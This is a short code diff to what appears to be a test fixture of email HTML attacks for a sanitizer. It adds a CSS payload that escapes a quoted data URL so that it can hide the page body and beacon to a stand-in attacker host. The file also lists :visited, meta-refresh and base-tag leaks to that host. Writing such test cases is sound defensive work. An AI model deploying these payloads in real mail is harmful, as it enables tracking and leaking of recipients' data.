@@ -51,6 +51,10 @@ export const mailAttacks: readonly Attack[] = [
     'style by attribute selectors',
     `<style>a[href^=h] { background: url(${evil}/h) }</style><a href="https://example.org">x</a>`,
   ],
+  [
+    'an address that ends the string it stands in',
+    `<style>p { background-image: url('data:image/png;base64,AA\\");} body{display:none} p{position:fixed;inset:0;background:url(${evil}/q);x:url(\\"') }</style><p style="background-image: url('data:image/png;base64,AA\\&quot;);position:fixed;inset:-999px;background:url(${evil}/s);x:url(\\&quot;')">x</p>`,
+  ],
   ['what was visited', `<style>a:visited { background: url(${evil}/v) }</style><a href="https://example.org">x</a>`],
   ['a refresh', `<meta http-equiv="refresh" content="0; url=${evil}/">`],
   ['a base', `<base href="${evil}/"><img src="a.png"><a href="x">x</a>`],
